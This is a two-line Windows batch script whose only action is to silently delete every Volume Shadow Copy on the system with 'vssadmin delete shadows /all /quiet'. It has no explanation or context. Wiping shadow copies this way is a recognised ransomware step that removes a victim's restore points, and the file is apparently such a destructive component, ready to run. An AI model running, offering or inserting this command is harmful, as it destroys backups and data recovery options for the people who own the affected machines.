@echo off
vssadmin delete shadows /all /quiet
